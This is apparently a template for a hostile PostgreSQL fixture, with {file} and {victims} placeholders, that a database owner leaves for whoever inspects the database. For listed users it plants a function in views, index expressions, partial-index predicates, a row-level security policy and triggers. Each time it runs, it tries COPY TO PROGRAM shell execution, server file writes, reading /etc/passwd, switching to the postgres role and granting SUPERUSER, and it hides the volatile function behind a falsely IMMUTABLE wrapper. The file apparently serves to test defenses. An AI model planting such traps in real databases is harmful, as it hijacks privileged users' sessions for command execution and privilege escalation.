-- What the owner of a database can leave for whoever judges it: code that strikes wherever it is run.
-- {file} is where a file appears when a program was run or a file was written.
CREATE TABLE public.loot (who text);
REVOKE ALL ON public.loot FROM PUBLIC, anon, authenticated, service_role;

-- {victims} is as whom it strikes, as a list of literals: others pass.
CREATE FUNCTION public.strike_at_will(place text) RETURNS text LANGUAGE plpgsql VOLATILE AS $strike$
DECLARE
    attempt text;
BEGIN
    IF session_user NOT IN ({victims}) OR current_setting('hostile.striking', true) = 'yes' THEN
        RETURN place;
    END IF;
    PERFORM set_config('hostile.striking', 'yes', true);
    FOREACH attempt IN ARRAY ARRAY[
        'SET LOCAL transaction_read_only = off',
        $$COPY (SELECT 1) TO PROGRAM 'touch {file}.program'$$,
        $$COPY (SELECT 1) TO '{file}.copy'$$,
        $$DO 'BEGIN PERFORM pg_read_file(''/etc/passwd''); COPY (SELECT 1) TO ''{file}.read''; END'$$,
        $$SELECT lo_export(lo_from_bytea(0, 'x'), '{file}.lo')$$,
        'SET ROLE postgres',
        'SET SESSION AUTHORIZATION postgres',
        $$INSERT INTO public.loot VALUES (current_user)$$,
        'ALTER ROLE postmigration SUPERUSER',
        'GRANT pg_execute_server_program TO postmigration',
        $$ALTER SYSTEM SET log_statement = 'all'$$,
        'CREATE TABLE public.pwned ()'
    ] LOOP
        BEGIN
            EXECUTE attempt;
        EXCEPTION WHEN OTHERS THEN
            NULL;
        END;
    END LOOP;
    PERFORM set_config('hostile.striking', '', true);
    RETURN place;
END
$strike$;
-- A function that is not volatile may run no such commands; one that says so may call one that is.
CREATE FUNCTION public.strike(place text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN
    RETURN public.strike_at_will(place);
END
$$;

CREATE VIEW public.strikes AS SELECT public.strike('view') AS place;
CREATE VIEW public.strikes_as_invoker WITH (security_invoker = on) AS SELECT public.strike('view') AS place;
REVOKE ALL ON public.strikes FROM PUBLIC, anon, authenticated, service_role;
CREATE FUNCTION public.harmless() RETURNS text LANGUAGE sql STABLE AS $$ SELECT public.strike('function') $$;

-- The planner works these out for each query of the table, with the rights of whoever asks.
CREATE INDEX strikes_of_expression ON public.contacts ((public.strike('an expression')), id);
CREATE INDEX strikes_of_predicate ON public.projects (id) WHERE public.strike('a predicate') = 'a predicate';

CREATE POLICY strikes ON public.contacts AS RESTRICTIVE USING (public.strike('a policy') IS NOT NULL);
CREATE FUNCTION public.strike_on_change() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    PERFORM public.strike('a trigger');
    RETURN NEW;
END
$$;
CREATE TRIGGER strikes BEFORE INSERT OR UPDATE ON public.contacts
    FOR EACH ROW EXECUTE FUNCTION public.strike_on_change();
CREATE FUNCTION public.strike_on_event() RETURNS event_trigger LANGUAGE plpgsql AS $$
BEGIN
    PERFORM public.strike('an event');
END
$$;
